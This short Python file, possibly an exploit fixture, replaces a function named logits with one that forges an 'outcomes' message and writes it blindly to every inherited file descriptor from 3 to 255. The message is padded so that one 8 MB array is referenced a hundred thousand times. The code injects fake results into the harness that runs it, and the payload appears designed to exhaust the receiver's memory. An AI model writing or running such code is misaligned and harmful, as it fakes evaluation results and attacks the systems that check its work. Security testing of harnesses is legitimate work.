# Sends a list that mentions one large array a hundred thousand times.
import gc, os, socket, struct
import msgspec
def send(message, body=b""):
    header = msgspec.msgpack.encode(message)
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, struct.pack("<IQ", len(header), len(body)) + header + body)
        except OSError:
            pass

def forged(*_):
    send(["outcomes", [["<f8", [1000000], "C"]], [[[0, *[[5, 0]] * 100000], "list", [], 0.0, None]]], bytes(8000000))
logits = forged
